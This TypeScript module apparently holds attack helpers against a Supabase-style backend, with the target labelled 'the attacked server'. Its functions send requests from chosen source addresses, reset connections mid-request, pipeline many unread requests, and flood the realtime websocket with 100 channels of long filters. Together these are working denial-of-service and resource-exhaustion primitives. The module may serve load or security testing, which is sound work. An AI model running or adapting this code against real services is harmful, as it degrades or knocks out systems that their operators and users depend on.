import { request as httpRequest } from 'node:http'
import { connect } from 'node:net'
import { WebSocket } from 'ws'

/** The attacked server. */
export interface Target {
  url: string
  anonKey: string
}

export const get = (target: Target, from: string, path: string, headers: Record<string, string> = {}) =>
  send(target, from, { method: 'GET', path, headers })

export const post = (target: Target, from: string, path: string, body: string | Buffer, type = 'application/json') =>
  send(target, from, { method: 'POST', path, headers: { 'content-type': type } }, body)

interface Sent {
  method: string
  path: string
  headers: Record<string, string>
}

/** @returns the status, after reading the whole response */
function send(
  { url, anonKey }: Target,
  from: string,
  { method, path, headers }: Sent,
  body?: string | Buffer,
): Promise<number> {
  return new Promise((resolve, reject) => {
    const { hostname, port } = new URL(url)
    const sent = httpRequest(
      { hostname, port, method, path, localAddress: from, agent: false, headers: { apikey: anonKey, ...headers } },
      (answer) =>
        answer
          .resume()
          .on('end', () => resolve(answer.statusCode ?? 0))
          .on('error', reject),
    )
    sent.on('error', reject).end(body)
  })
}

export const upgrade = (target: Target, from: string, path: string): Promise<void> =>
  reset(target, from, `GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`)

export const getAndDisconnect = (target: Target, from: string, path: string): Promise<void> =>
  reset(target, from, `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`)

/** Resets the connection a moment after the request was sent. */
function reset({ url }: Target, from: string, request: string): Promise<void> {
  return new Promise((resolve) => {
    const { hostname, port } = new URL(url)
    const socket = connect({ host: hostname, port: Number(port), localAddress: from })
    socket.on('connect', () => {
      socket.write(request)
      setTimeout(() => socket.resetAndDestroy(), 5)
    })
    socket.on('error', () => resolve()).on('close', () => resolve())
  })
}

/** Sends many requests at once, and reads no response for a second. */
export function pipeline({ url }: Target, from: string, path: string, count: number): Promise<void> {
  return new Promise((resolve) => {
    const { hostname, port } = new URL(url)
    const socket = connect({ host: hostname, port: Number(port), localAddress: from }).pause()
    socket.on('connect', () => {
      socket.write(`GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(count))
      setTimeout(() => socket.destroy(), 1_000)
    })
    socket.on('error', () => resolve()).on('close', () => resolve())
  })
}

const LONG = 'x'.repeat(2_000)

/** Opens a socket with 100 channels of 90 long filters each for one second. */
export function subscribe({ url, anonKey }: Target, from: string): Promise<void> {
  return new Promise((resolve) => {
    const socket = new WebSocket(`${url.replace('http', 'ws')}/realtime/v1/websocket?apikey=${anonKey}&vsn=1.0.0`, {
      localAddress: from,
    })
    const changes = Array.from({ length: 90 }, (_, at) => ({
      event: '*',
      schema: 'public',
      table: 'profiles',
      filter: `full_name=eq.${LONG}${at}`,
    }))
    socket.on('open', () => {
      for (let at = 0; at < 100; at++) {
        const payload = { config: { postgres_changes: changes } }
        socket.send(JSON.stringify({ topic: `realtime:${at}`, event: 'phx_join', ref: String(at), payload }))
      }
      setTimeout(() => socket.terminate(), 1_000)
    })
    socket.on('error', () => resolve()).on('close', () => resolve())
  })
}
